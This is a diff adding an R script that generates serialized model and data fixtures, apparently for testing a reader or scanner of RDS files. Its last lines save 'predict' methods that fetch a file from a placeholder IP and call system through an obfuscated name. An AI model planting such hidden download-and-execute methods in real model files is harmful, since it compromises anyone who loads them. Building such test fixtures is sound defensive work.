@@ -1,0 +1,22 @@
+# Made with R 4.2 of Debian 12: Rscript make.R
+set.seed(1)
+frame <- data.frame(x = c(1, 2, 3, 4.5), y = c(2.1, 3.9, 6.2, 8.8), g = factor(c("a", "b", "a", "b")))
+local({
+  fit <- function(data) lm(y ~ x + I(x^2), data = data)
+  model <- fit(frame)
+  saveRDS(model, "lm.rds")
+  saveRDS(model, "lm-v2.rds", version = 2, compress = FALSE)
+})
+saveRDS(frame, "frame-ascii.rds", ascii = TRUE)
+con <- file("frame-native.rds", "wb")
+writeBin(serialize(list(frame = frame, seq = 1:10, s = letters[1:3]), NULL, xdr = FALSE), con)
+close(con)
+model <- list(predict = function(x) { y <- paste0("ec", "ho"); x * 2 }, meta = quote(lm(y ~ x)))
+save(model, frame, file = "workspace.rda", compress = FALSE)
+f <- compiler::cmpfun(function(x, ...) { for (i in seq_len(x)) { z <- sum(i, ...) }; switch("a", a = z) })
+saveRDS(f, "compiled.rds", compress = FALSE)
+# Never called here: what a model's method could do.
+bad <- list(predict = function(x) { utils::download.file("http://198.51.100.7/x", "x"); do.call(paste0("sys", "tem"), list("echo hidden")) })
+saveRDS(bad, "closure.rds", compress = FALSE)
+badc <- list(predict = compiler::cmpfun(function(x) system("echo compiled")))
+saveRDS(badc, "closure-compiled.rds", compress = FALSE)
